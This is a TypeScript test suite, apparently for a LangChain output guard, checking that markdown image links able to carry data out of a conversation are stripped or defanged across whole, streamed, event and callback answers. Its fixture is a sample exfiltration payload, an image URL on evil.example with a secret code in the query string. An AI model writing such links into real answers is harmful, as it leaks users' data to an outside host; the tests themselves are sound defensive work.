import { ChatOpenAI } from '@langchain/openai';
import { ScriptedModel } from '@sallyport/testing';
import { AIMessage, AIMessageChunk, createAgent, HumanMessage } from 'langchain';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { AnswerEvents } from '../src/events.ts';
import { AnswerChunks } from '../src/output.ts';
import { agentOf, converse, guarded, HELLO, scripted, THREAD } from './stage.ts';

const IMAGE = 'Your code is 4711. ![chart](https://evil.example/?d=4711) That is all.';
const server = new ScriptedModel('chat');
let url = '';
beforeAll(async () => {
  url = `${await server.start()}/v1`;
});
beforeEach(() => server.script([{ text: IMAGE }]));
afterAll(() => server.stop());

const SHOWN = expect.stringMatching(/^Your code is 4711\. (?!.*d=4711).*evil\[\.\]example.* That is all\.$/s);

function openai(): ChatOpenAI {
  const bare = new ChatOpenAI({ model: 'scripted', apiKey: 'none', configuration: { baseURL: url } });
  return guarded({ model: bare, tools: [] }).model;
}

describe('a whole answer', () => {
  test('loses addresses that could carry data, in the result and in the state', async () => {
    expect((await openai().invoke('Hi')).text).toEqual(SHOWN);
    const agent = agentOf({ model: scripted(new AIMessage(IMAGE)), tools: [] });
    const { messages } = await agent.invoke(HELLO, THREAD);
    expect(messages.at(-1)?.text).toEqual(SHOWN);
    expect(JSON.stringify(await agent.graph.getState(THREAD))).not.toContain('d=4711');
  });

  test('loses them in every text block, and keeps all else', async () => {
    const blocks = [{ type: 'text', text: IMAGE }, { type: 'reasoning', reasoning: IMAGE }, 'Plain.'];
    const message = new AIMessage({ content: blocks as never, id: 'm', usage_metadata: { output_tokens: 1 } as never });
    const shown = await guarded({ model: scripted(message) }).model.invoke('Hi');
    expect(shown.content).toEqual([{ type: 'text', text: SHOWN }, ...blocks.slice(1)]);
    expect(shown).toMatchObject({ id: 'm', usage_metadata: { output_tokens: 1 } });
    expect(message.content).toEqual(blocks);
  });

  test('keeps a link of the user, and every link with rawOutput', async () => {
    const link = 'See https://docs.example/guide for more.';
    const own = guarded({ model: scripted(new AIMessage(link)) }).model;
    expect((await own.invoke('What is at https://docs.example/guide?')).text).toBe(link);
    const raw = guarded({ model: scripted(new AIMessage(IMAGE)), rawOutput: true }).model;
    expect((await raw.invoke('Hi')).text).toBe(IMAGE);
  });
});

/** A text that is put together from pieces, and whether it came in more than one. */
async function joined(pieces: AsyncIterable<string>): Promise<{ text: string; isStreamed: boolean }> {
  const list: string[] = [];
  for await (const piece of pieces) if (piece !== '') list.push(piece);
  return { text: list.join(''), isStreamed: list.length > 3 };
}

async function* textsOf(chunks: AsyncIterable<{ readonly text: string }>): AsyncGenerator<string> {
  for await (const { text } of chunks) yield text;
}

describe('an answer that is streamed', () => {
  test('by the model', async () => {
    expect(await joined(textsOf(await openai().stream('Hi')))).toEqual({ text: SHOWN, isStreamed: true });
  });

  test('as messages of an agent, which LangGraph takes from callbacks', async () => {
    const agent = createAgent({ model: openai(), tools: [] });
    const texts = async function* () {
      for await (const [message] of await agent.stream(HELLO, { streamMode: 'messages' })) yield message.text;
    };
    expect(await joined(texts())).toEqual({ text: SHOWN, isStreamed: true });
  });

  test('as events', async () => {
    const deltas: string[] = [];
    const finished: unknown[] = [];
    for await (const event of openai().streamEvents('Hi')) {
      if (event.event === 'content-block-delta' && event.delta.type === 'text-delta') deltas.push(event.delta.text);
      if (event.event === 'content-block-finish') finished.push(event.content);
    }
    expect(deltas.join('')).toEqual(SHOWN);
    expect(finished).toMatchObject([{ type: 'text', text: deltas.join('') }]);
  });

  test('to callbacks, although a whole answer was asked for', async () => {
    const tokens: string[] = [];
    const model = scripted(new AIMessage(IMAGE));
    const generate = model._generate.bind(model);
    model._generate = async (messages, options, manager) => {
      for (const token of IMAGE.match(/.{1,7}/gs) ?? []) await manager?.handleLLMNewToken(token);
      return generate(messages, options, manager);
    };
    const callbacks = [{ handleLLMNewToken: (token: string) => void tokens.push(token) }];
    const { text } = await guarded({ model }).model.invoke('Hi', { callbacks });
    expect([text, tokens.join('')]).toEqual([SHOWN, text]);
  });

  test('raw with rawOutput', async () => {
    const bare = new ChatOpenAI({ model: 'scripted', apiKey: 'none', configuration: { baseURL: url } });
    const { model } = guarded({ model: bare, tools: [], rawOutput: true });
    expect((await joined(textsOf(await model.stream('Hi')))).text).toBe(IMAGE);
    server.script([{ text: IMAGE }]);
    const events = model.streamEvents([new HumanMessage('Hi')]);
    expect(await events.text).toBe(IMAGE);
  });
});

class Chunk {
  readonly text: string;
  readonly message: AIMessageChunk;
  constructor({ text, message }: { text: string; message: AIMessageChunk }) {
    this.text = text;
    this.message = message;
  }
}

function chunk(content: unknown, more: object = {}): Chunk {
  const message = new AIMessageChunk({ content: content as never, id: 'm', ...more });
  return new Chunk({ text: typeof content === 'string' ? content : '', message });
}

describe('the chunks of an answer', () => {
  const USAGE = { usage_metadata: { input_tokens: 1, output_tokens: 2, total_tokens: 3 } };
  const CALL = { tool_call_chunks: [{ name: 'pay', args: '{}', id: 'c', index: 0, type: 'tool_call_chunk' }] };

  test('hold back a word that is not complete, and count nothing twice', () => {
    const chunks = new AnswerChunks(converse());
    const shown = [chunk('Hello wor'), chunk('ld', USAGE)].flatMap((each) => chunks.push(each));
    const all = [...shown, ...chunks.end<Chunk>()];
    expect(all.map(({ text }) => text)).toEqual(['Hello ', '', 'world']);
    const whole = all.map(({ message }) => message).reduce((one, other) => one.concat(other) as AIMessageChunk);
    expect(whole).toMatchObject({ text: 'Hello world', id: 'm', ...USAGE });
  });

  test('show the rest of a text before a call follows it', () => {
    const chunks = new AnswerChunks(converse());
    chunks.push(chunk('I pay.'));
    const shown = chunks.push(chunk('', CALL));
    expect(shown.map(({ text, message }) => [text, message.tool_call_chunks?.length])).toEqual([
      ['pay.', 0],
      ['', 1],
    ]);
    expect(chunks.end()).toEqual([]);
  });

  test('keep the blocks of a message apart', () => {
    const chunks = new AnswerChunks(converse());
    const block = (text: string, index: number) => chunk([{ type: 'text', text, index }]);
    const shown = [block('One', 0), block('.', 0), block('Two', 1)].flatMap((each) => chunks.push(each));
    const all = [...shown, ...chunks.end<Chunk>()].map(({ message }) => message.content);
    const texts = all.flat().filter((part) => (part as { text: string }).text !== '');
    expect(texts).toEqual([
      { type: 'text', text: 'One.', index: 0 },
      { type: 'text', text: 'Two', index: 1 },
    ]);
  });
});

describe('the events of an answer', () => {
  const text = (value: string) => ({ type: 'text', text: value });
  const run = (...events: readonly object[]) => {
    const answer = new AnswerEvents(converse());
    return [...events.flatMap((event) => answer.push(event)), ...answer.end()];
  };

  test('show a block that comes whole, in its first, its last or another event', () => {
    for (const event of [
      { event: 'content-block-finish', index: 0, content: text(IMAGE) },
      { event: 'content-block-delta', index: 0, delta: { type: 'block-delta', fields: text(IMAGE) } },
    ])
      expect(JSON.stringify(run(event))).toMatch(/evil\[\.\]example/);
    const begun = run({ event: 'content-block-start', index: 0, content: text(`${IMAGE} `) });
    expect(JSON.stringify(begun)).toMatch(/evil\[\.\]example/);
    expect(JSON.stringify(begun)).not.toContain('d=4711');
  });

  test('show the rest of a block that does not end', () => {
    const delta = { event: 'content-block-delta', index: 0, delta: { type: 'text-delta', text: 'Hel' } };
    expect(run(delta)).toEqual([delta]);
  });

  test('pass all else', () => {
    const others = [
      { event: 'message-start' },
      { event: 'content-block-delta', index: 0, delta: { type: 'reasoning-delta', reasoning: IMAGE } },
      { event: 'content-block-finish', index: 0, content: { type: 'tool_call', args: {} } },
    ];
    expect(run(...others)).toEqual(others);
  });
});
